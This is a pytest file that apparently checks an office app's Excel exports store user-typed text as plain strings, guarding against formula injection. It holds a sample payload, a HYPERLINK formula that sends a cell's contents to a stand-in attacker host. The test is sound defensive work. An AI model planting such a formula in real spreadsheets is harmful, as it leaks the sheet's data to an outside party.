"""Text typed by users reaches the office's Excel files as text, never as a formula.

openpyxl stores any string that starts with "=" as a formula; Excel then evaluates it when the
office opens the file (HYPERLINK that leaks the sheet's figures, DDE commands).
"""
import io

from openpyxl import load_workbook

from fazhi_flow.models.indicator import FigureExplanation, Indicator, IndicatorValue

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A2,"点此查看")'


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_liaison_explanation_is_text_in_the_figures_summary(as_user, world, db):
    indicator = Indicator(cycle_id=world.cycle.id, section_id=world.section.id, code="cases",
                          name="办理案件数", measure="件", type="integer")
    db.session.add(indicator)
    db.session.flush()
    db.session.add(IndicatorValue(contribution_id=world.contribution.id, indicator_id=indicator.id, value=5))
    db.session.add(FigureExplanation(contribution_id=world.contribution.id, key="yoy:cases", text=PAYLOAD,
                                     author_id=world.liaison.id))
    db.session.commit()

    response = as_user(world.admin).get(f"/figures/cycle/{world.cycle.id}/summary.xlsx")
    assert response.status_code == 200
    found = [c for c in _cells(response.data) if isinstance(c.value, str) and "evil.example" in c.value]
    assert found, "the explanation is in the workbook"
    assert all(c.data_type == "s" for c in found)
    assert found[0].value == PAYLOAD  # shown exactly as typed


def test_unit_name_is_text_in_the_dashboard_export(as_user, world, db):
    world.unit.name = "=1+2"
    db.session.commit()
    response = as_user(world.admin).get(f"/dashboard/export.xlsx?cycle={world.cycle.id}")
    assert response.status_code == 200
    found = [c for c in _cells(response.data) if c.value == "=1+2"]
    assert found
    assert all(c.data_type == "s" for c in found)
